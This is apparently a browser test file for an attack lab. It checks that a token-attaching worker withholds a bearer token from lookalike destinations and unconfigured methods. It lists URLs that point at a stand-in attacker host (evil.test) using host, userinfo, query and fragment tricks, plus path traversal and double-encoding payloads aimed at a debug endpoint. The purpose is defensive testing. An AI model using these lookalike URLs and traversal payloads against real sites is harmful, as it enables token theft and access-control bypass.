import { expect, runCard, test } from '../fixtures/attack-app.ts'
import { fetchInPage } from '../fixtures/page-calls.ts'

test('no destination that only resembles the API gets the token', async ({
  page,
  app,
  signIn,
  startWeak,
  attacker,
  control,
}) => {
  const target = await startWeak({ protections: { csp: false } })
  await signIn(page, 'alice', target.origin)
  const { port, host } = new URL(app.apiOrigin)
  const away = attacker.port
  // These end at the attacker's server; the query says which one it was.
  const elsewhere = [
    `http://localhost:${away}/v1/me`,
    `http://127.0.0.1:${away}/v1/me`,
    `http://[::1]:${away}/v1/me`,
    `http://localhost.evil.test:${away}/v1/me`,
    `http://localhost-${port}.test:${away}/v1/me`,
    `http://evil.test:${away}/${app.apiOrigin}/v1/me`,
    `http://evil.test:${away}/?${app.apiOrigin}/v1/`,
    `http://evil.test:${away}/#${app.apiOrigin}/v1/`,
    `http://evil.test:${away}\\@${host}/v1/me`,
  ]
  for (const url of elsewhere) await fetchInPage(page, url)
  expect(attacker.seen.length, 'every request went out').toBe(elsewhere.length)
  expect(attacker.credentials()).toEqual([])
  // A URL with a user and a password is none that fetch takes.
  for (const userinfo of [`http://${host}@evil.test:${away}/`, `http://a:b@${host}/v1/me`]) {
    expect((await fetchInPage(page, userinfo)).status).toBe(0)
  }

  // These end at the API's own server.
  const there = [
    `http://127.0.0.1:${port}/v1/me`,
    `http://[::1]:${port}/v1/me`,
    `http://localhost.:${port}/v1/me`,
    `http://api.localhost:${port}/v1/me`,
    ...[
      '/v1',
      '/V1/me',
      '/v1%2fme',
      '/v1/..%2fdebug/headers',
      '/v1/%2e%2e%2fdebug/headers',
      '/v1/%252e%252e%252fdebug/headers',
      '/v1/..%5cdebug/headers',
      '/v1/..;/debug/headers',
      '/v1/..;x=y/debug/headers',
      '/v1/.%2e/debug/headers',
      '/v1/../debug/headers',
      '/v1//../../debug/headers',
      '//v1/me',
      '/debug/headers?/v1/',
    ].map((path) => app.apiOrigin + path),
  ]
  const before = (await control.api.log()).length
  for (const url of there) {
    const { text } = await fetchInPage(page, url)
    expect(text, url).not.toContain('Bearer ')
  }
  const log = (await control.api.log()).slice(before)
  expect(log.length).toBe(there.length)
  expect(log.filter(({ authorization }) => authorization !== 'none')).toEqual([])

  // The exact one, however it is written.
  for (const url of [`${app.apiOrigin}/v1/me`, `HTTP://LOCALHOST:${port}/v1/./me`]) {
    expect((await fetchInPage(page, url)).status, url).toBe(200)
  }
})

test('a method that is not configured gets no token', async ({ page, app, signIn, control }) => {
  await signIn(page)
  await fetchInPage(page, `${app.apiOrigin}/v1/me`, { method: 'OPTIONS' })
  await fetchInPage(page, `${app.apiOrigin}/v1/me`, { method: 'PROPFIND' })
  const log = await control.api.log('/v1/me')
  expect(log.filter(({ authorization }) => authorization !== 'none')).toEqual([])
})

test('the attack lab finds no lookalike that gets the token', async ({ page, signIn }) => {
  test.slow()
  await signIn(page)
  expect(await runCard(page, 'lookalike-destinations')).toMatchObject({ outcome: 'held' })
})

test('bites: a worker that looks for the host in the whole address sends the token anywhere', async ({
  page,
  app,
  startNaive,
  signInNaively,
  attacker,
}) => {
  test.slow()
  const naive = await startNaive()
  await signInNaively(page, naive)
  await fetchInPage(page, `http://evil.test:${attacker.port}/?${app.apiOrigin}/v1/`)
  expect(attacker.credentials()).toEqual([expect.stringMatching(/^Bearer eyJ/)])
  expect(await runCard(page, 'lookalike-destinations')).toMatchObject({ outcome: 'leak' })
})
